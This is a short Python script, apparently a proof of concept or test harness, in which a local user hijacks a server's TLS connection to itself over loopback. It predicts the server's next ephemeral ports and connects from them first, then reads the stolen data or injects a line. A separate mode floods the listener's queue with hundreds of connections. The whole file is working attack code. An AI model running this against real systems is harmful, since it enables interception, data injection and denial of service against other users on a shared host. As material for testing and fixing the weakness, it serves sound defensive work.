"""A local user who tries to take over a TLS connection that a server makes to itself over loopback.

Arguments: the port on which the server listens for it; the address to connect from; what to do:
  read   take over the connection, and print what arrives
  write  take over the connection, and send a line
  fill   fill the queue of the listener

Prints `ready` when all connections are in the queue, then what it has stolen, and ends with standard input.
"""

import socket
import ssl
import struct
import sys
import threading

IP_BIND_ADDRESS_NO_PORT = 24
IP_LOCAL_PORT_RANGE = 51  # Linux 6.3
LISTENER = ("127.0.0.1", int(sys.argv[1]))
ADDRESS, AIM = sys.argv[2], sys.argv[3]
FIRST, LAST = map(int, open("/proc/sys/net/ipv4/ip_local_port_range").read().split())

context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE


def say(text):
    print(text, flush=True)


def comes_from(port):
    """A connection from that port. One that is bound to it would keep the server from using the port as well."""
    connection = socket.socket()
    connection.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
    connection.bind((ADDRESS, 0))
    connection.setsockopt(socket.IPPROTO_IP, IP_LOCAL_PORT_RANGE, struct.pack("I", port | port << 16))
    connection.connect(LISTENER)
    return connection


def next_ports():
    """Linux gives the connections between two addresses ports that follow each other, 2 to 16 apart."""
    with socket.create_connection(LISTENER) as probe:
        last = probe.getsockname()[1]
    return [port for port in range(last + 2, last + 40, 2) if FIRST <= port <= LAST]


def take(connection):
    try:
        with context.wrap_socket(connection) as taken:
            if AIM == "write":
                taken.sendall(b"of the thief\r\n")
                taken.unwrap()
            else:
                stolen = taken.recv(65536)
                if stolen:
                    say("stolen: " + stolen.decode("latin-1").strip())
    except OSError:
        pass


held = []
if AIM == "fill":
    for _ in range(600):
        connection = socket.socket()
        connection.bind((ADDRESS, 0))
        connection.setblocking(False)
        connection.connect_ex(LISTENER)
        held.append(connection)
else:
    for port in next_ports():
        try:
            connection = comes_from(port)
        except OSError:
            continue
        threading.Thread(target=take, args=(connection,), daemon=True).start()
        held.append(connection)
say("ready" if held else "got no connection")
sys.stdin.read()
